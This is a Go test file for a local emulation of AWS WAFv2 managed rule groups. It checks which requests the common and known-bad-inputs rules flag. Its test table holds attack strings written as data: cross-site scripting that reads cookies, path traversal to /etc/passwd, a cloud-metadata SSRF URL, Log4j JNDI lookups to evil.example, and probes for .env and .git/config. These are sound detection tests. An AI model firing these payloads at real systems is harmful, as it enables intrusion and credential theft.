package managed_test

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"go.uber.org/goleak"

	"github.com/mayfly-dev/mayfly/local/wafv2/managed"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// request is as a browser asks, with more headers.
func request(target string, header ...string) *http.Request {
	r := httptest.NewRequest(http.MethodGet, "http://d111111abcdef8.cloudfront.localhost:4566/", nil)
	path, query, _ := strings.Cut(target, "?")
	r.URL.Opaque, r.URL.RawQuery = path, query // as it came, not as it is parsed
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
	r.Header.Set("Accept", "text/html,application/xhtml+xml,*/*;q=0.8")
	r.Header.Set("Accept-Encoding", "gzip, deflate, br")
	for i := 0; i+1 < len(header); i += 2 {
		if r.Header.Set(header[i], header[i+1]); header[i+1] == "" {
			r.Header.Del(header[i])
		}
	}
	return r
}

func TestAttacksAreTold(t *testing.T) {
	const common, inputs = managed.CommonRuleSet, managed.KnownBadInputs
	var rules managed.Rules
	for name, tt := range map[string]struct {
		request *http.Request
		common  bool
		inputs  bool
	}{
		"a page":                         {request("/"), false, false},
		"an asset with its version":      {request("/assets/app.js?v=1.2.3"), false, false},
		"a search":                       {request("/search?q=caf%C3%A9+%26+tea&page=2"), false, false},
		"a page with a cookie":           {request("/docs/guide.html", "Cookie", "session=0123456789abcdef; theme=dark"), false, false},
		"a health check":                 {request("/", "User-Agent", "curl/8.5.0", "Accept", "*/*"), false, false},
		"a script in a query":            {request("/?q=<script>alert(1)</script>"), true, false},
		"a script in a query, escaped":   {request("/?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"), true, false},
		"a handler in a cookie":          {request("/", "Cookie", `a=<img src=x onerror=alert(1)>`), true, false},
		"a file above":                   {request("/../../etc/passwd"), true, false},
		"a file above, escaped":          {request("/?file=..%2f..%2f..%2fetc%2fpasswd"), true, false},
		"the metadata of a machine":      {request("/?url=http://169.254.169.254/latest/meta-data/"), true, false},
		"a scanner":                      {request("/", "User-Agent", "sqlmap/1.8"), true, false},
		"nobody":                         {request("/", "User-Agent", ""), true, false},
		"a header of a proxy":            {request("/", "Proxy", "http://evil.example"), true, false},
		"a query of 2,049 bytes":         {request("/?" + strings.Repeat("a", 2049)), true, false},
		"a query of 2,048 bytes":         {request("/?" + strings.Repeat("a", 2048)), false, false},
		"a path of 1,025 bytes":          {request("/" + strings.Repeat("a", 1024)), true, false},
		"cookies of 10,241 bytes":        {request("/", "Cookie", "a="+strings.Repeat("b", 10239)), true, false},
		"Log4j in a header":              {request("/", "X-Api-Version", "${jndi:ldap://evil.example/a}"), false, true},
		"Log4j in a query":               {request("/?x=$%7Bjndi:ldap://evil.example/a%7D"), false, true},
		"a repository's configuration":   {request("/.git/config"), true, true},
		"secrets of the environment":     {request("/.env"), true, true},
		"a database, of another group's": {request("/?id=1%27%20OR%20%271%27=%271"), false, false},
	} {
		t.Run(name, func(t *testing.T) {
			for group, want := range map[string]bool{common: tt.common, inputs: tt.inputs} {
				rule, got, err := rules.Inspect(group, tt.request)
				if err != nil || got != want || (rule != "") != want {
					t.Errorf("%s: matches %v by rule %q, %v; want %v", group, got, rule, err, want)
				}
			}
		})
	}
}

func TestAGroupThatIsNotKnown(t *testing.T) {
	var rules managed.Rules
	if _, _, err := rules.Inspect("AWSManagedRulesSQLiRuleSet", request("/")); err == nil {
		t.Error("it has one")
	}
	if _, known := managed.Capacity("AWSManagedRulesSQLiRuleSet"); known {
		t.Error("it knows its capacity")
	}
	for group, want := range map[string]int{managed.CommonRuleSet: 700, managed.KnownBadInputs: 200} {
		if units, known := managed.Capacity(group); units != want || !known {
			t.Errorf("%s takes %d units", group, units)
		}
	}
}

func TestManyAskAtOnce(t *testing.T) {
	var rules managed.Rules
	var all sync.WaitGroup
	for range 8 {
		all.Go(func() {
			for _, want := range []bool{true, false} {
				target := map[bool]string{true: "/?q=<script>alert(1)</script>", false: "/"}[want]
				if _, got, err := rules.Inspect(managed.CommonRuleSet, request(target)); got != want || err != nil {
					t.Errorf("%s: %v, %v", target, got, err)
				}
			}
		})
	}
	all.Wait()
}

func BenchmarkInspect(b *testing.B) {
	var rules managed.Rules
	for _, group := range []string{managed.KnownBadInputs, managed.CommonRuleSet} {
		r := request("/docs/guide.html?v=1")
		b.Run(group, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, matches, err := rules.Inspect(group, r); matches || err != nil {
					b.Fatal(matches, err)
				}
			}
		})
	}
}
